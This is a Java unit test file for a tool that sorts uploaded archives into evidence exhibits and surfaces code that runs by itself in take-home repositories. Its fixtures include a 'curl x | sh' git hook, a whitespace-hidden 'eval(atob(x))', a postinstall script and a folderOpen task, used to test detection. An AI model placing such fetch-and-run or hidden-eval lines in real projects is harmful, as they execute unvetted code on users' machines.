package dev.bonafide.documents.archive;

import static org.assertj.core.api.Assertions.assertThat;

import dev.bonafide.casefile.Exhibit;
import dev.bonafide.casefile.ExhibitKind;
import dev.bonafide.documents.intake.Opened;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.MessageDigest;
import java.security.NoSuchAlgorithmException;
import java.util.HexFormat;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class RepositoryTest {
  private static final String PACKAGE = "{\"scripts\": {\"postinstall\": \"node ./sync.js\"}}";

  @TempDir Path temp;

  @Test
  void a_chat_or_a_letter_at_the_top_of_a_repository_is_evidence_of_its_own() {
    String chat = "[03.02.26, 10:14:00] Lena: Hello\n[03.02.26, 10:15:00] Tom: Hi\n";
    assertThat(
            names(
                "_chat.txt",
                chat,
                "interview.vtt",
                "WEBVTT\n",
                "words.txt",
                "one two",
                "package.json",
                PACKAGE,
                "test/chat.txt",
                chat))
        .containsExactly("r.zip", "r.zip/_chat.txt", "r.zip/interview.vtt");
  }

  @Test
  void an_empty_file_keeps_nothing_beside_it_from_being_read() {
    assertThat(names("README.md", "# Task", "SUBMISSION.md", "", "data/a.csv", "a,b"))
        .containsExactly("r.zip");
    assertThat(names("README.md", "# Task", "plan.md", "x", "more/notes.md", " \n"))
        .containsExactly("r.zip", "r.zip/plan.md");
    assertThat(names("__init__.py", "", "chat.txt", "Hello")).containsExactly("r.zip/chat.txt");
  }

  @Test
  void tasks_beside_the_code_of_machines_are_no_letters() {
    assertThat(names("README.md", "# Tasks", "front-end.md", "Fork it", "infra/main.tf", "x"))
        .containsExactly("r.zip");
  }

  @Test
  void a_readme_with_code_or_data_is_a_repository_and_what_people_sent_lies_beside_it() {
    assertThat(names("README.md", "# Task", "client/package.json", PACKAGE, "client/a.txt", "x"))
        .containsExactly("r.zip");
    assertThat(names("README.md", "# Task", "main.py", "run()", "letters/offer.eml", "From: a@b\n"))
        .containsExactly("r.zip", "r.zip/letters/offer.eml");
    assertThat(names("README.md", "# Task", "payloads/load.json", "{}", "letter.txt", "Hello"))
        .containsExactly("r.zip", "r.zip/letter.txt");
  }

  @Test
  void a_repository_in_a_folder_beside_a_chat_is_one() {
    assertThat(names("chat.txt", "Hello", "test/package.json", PACKAGE, "test/src/a.js", "run()"))
        .containsExactly("r.zip/chat.txt", "r.zip/test");
  }

  @Test
  void several_folders_of_code_with_pictures_about_them_are_one_repository() {
    List<Exhibit> exhibits =
        Opened.of(
            "shop.zip",
            Made.zip(
                "apps/web/package.json", "{}",
                "apps/web/public/favicon.ico", "\0\0\u0001\0",
                "server/package.json", "{}",
                "public/favicon.ico", "\0\0\u0001\0",
                "public/logo.png", "\u0089PNG",
                ".editorconfig", "root = true"));

    assertThat(exhibits).extracting(Exhibit::name).containsExactly("shop.zip");
    assertThat(exhibits.getFirst().kind()).isEqualTo(ExhibitKind.REPOSITORY);
  }

  @Test
  void a_chat_beside_several_folders_of_code_is_evidence_of_its_own() {
    assertThat(
            Opened.of(
                "case.zip",
                Made.zip("a/package.json", "{}", "b/package.json", "{}", "chat.txt", "Ana: hello")))
        .extracting(Exhibit::name)
        .containsExactly("case.zip/chat.txt", "case.zip/a", "case.zip/b");
  }

  @Test
  void code_that_is_pushed_out_of_sight_is_brought_back() {
    String code = "const a = 1;" + " ".repeat(900) + "eval(atob(x))";
    assertThat(text("package.json", PACKAGE, "index.js", code))
        .contains("const a = 1; [900 blanks] eval(atob(x))");
  }

  @Test
  void a_line_of_a_machine_is_cut_and_the_cut_is_told() {
    String line = "a".repeat(50_000) + "END";
    assertThat(text("package.json", PACKAGE, "x.min.js", line))
        .contains(" [cut: 48103 characters] ", "END")
        .hasSizeLessThan(3_000);
  }

  @Test
  void a_file_that_is_too_long_is_cut_and_one_without_text_is_told() {
    String text =
        text("package.json", PACKAGE, "long.py", "x = 1\n".repeat(20_000), "b.bin", "a\0b");
    assertThat(text).contains("[cut: the file has 120000 bytes]", "[no text, 3 bytes]");
  }

  @Test
  void a_broken_letter_hides_no_file() {
    byte[] code = Made.bytes("run(X)");
    code[4] = (byte) 0xC3;
    assertThat(Opened.of("r.zip", ExhibitKind.REPOSITORY, Made.zipOf("a.js", code)))
        .singleElement()
        .matches(exhibit -> exhibit.text().contains("run("));
  }

  @Test
  void what_was_fetched_is_counted_and_not_read() {
    assertThat(text("package.json", PACKAGE, "node_modules/x/index.js", "secret words"))
        .contains("1 files of packages and objects are not read")
        .doesNotContain("secret words");
  }

  @Test
  void what_acts_by_itself_stands_first() {
    String text =
        text(
            "take-home/src/app.js", "start()",
            "take-home/README.md", "Run npm install",
            "take-home/.vscode/tasks.json", "{\"runOn\": \"folderOpen\"}",
            "take-home/package.json", PACKAGE);
    assertThat(text).startsWith("Repository take.zip, 4 files, SHA-256 ");
    assertThat(text)
        .containsSubsequence(
            "=== .vscode/tasks.json ===",
            "folderOpen",
            "=== package.json ===",
            PACKAGE,
            "=== README.md ===",
            "=== src/app.js ===");
  }

  @Test
  void a_folder_and_an_archive_of_it_read_the_same() throws IOException {
    Files.createDirectories(temp.resolve("take/.git/hooks"));
    Files.writeString(temp.resolve("take/package.json"), PACKAGE);
    Files.writeString(temp.resolve("take/.git/hooks/post-checkout"), "curl x | sh");
    List<Exhibit> folder =
        new Cases(Opened.intake()).open("take", null, temp.resolve("take")).exhibits();
    byte[] tar =
        Made.tar("take/.git/hooks/post-checkout", "curl x | sh", "take/package.json", PACKAGE);
    byte[] archive = Made.gzip(tar);
    assertThat(Opened.of("take", archive))
        .extracting(Exhibit::text)
        .containsExactly(
            folder
                .getFirst()
                .text()
                .replace("2 files\n", "2 files, SHA-256 " + sha256(archive) + "\n"));
    assertThat(folder.getFirst().kind()).isEqualTo(ExhibitKind.REPOSITORY);
    assertThat(folder.getFirst().text()).contains("=== .git/hooks/post-checkout ===\ncurl x | sh");
  }

  @Test
  void anything_handed_in_as_a_repository_is_one() {
    byte[] zip = Made.zip("a.txt", "words");
    assertThat(Opened.of("r.zip", ExhibitKind.REPOSITORY, zip).getFirst().text())
        .contains("=== a.txt ===\nwords");
  }

  @Test
  void an_archive_in_a_mail_or_another_archive_has_a_hash_of_its_own() {
    byte[] inner = Made.zip("package.json", PACKAGE);
    byte[] outer = Made.zipOf("task.zip", inner);
    assertThat(Opened.of("all.zip", outer))
        .singleElement()
        .matches(one -> one.text().contains("1 files, SHA-256 " + sha256(inner)));
  }

  private static String sha256(byte[] bytes) {
    try {
      return HexFormat.of().formatHex(MessageDigest.getInstance("SHA-256").digest(bytes));
    } catch (NoSuchAlgorithmException impossible) {
      throw new AssertionError(impossible);
    }
  }

  private static String text(String... files) {
    List<Exhibit> exhibits = Opened.of("take.zip", Made.zip(files));
    assertThat(exhibits).hasSize(1);
    assertThat(exhibits.getFirst().kind()).isEqualTo(ExhibitKind.REPOSITORY);
    return exhibits.getFirst().text();
  }

  private static List<String> names(String... pathsAndTexts) {
    return Opened.of("r.zip", null, Made.zip(pathsAndTexts)).stream().map(Exhibit::name).toList();
  }
}
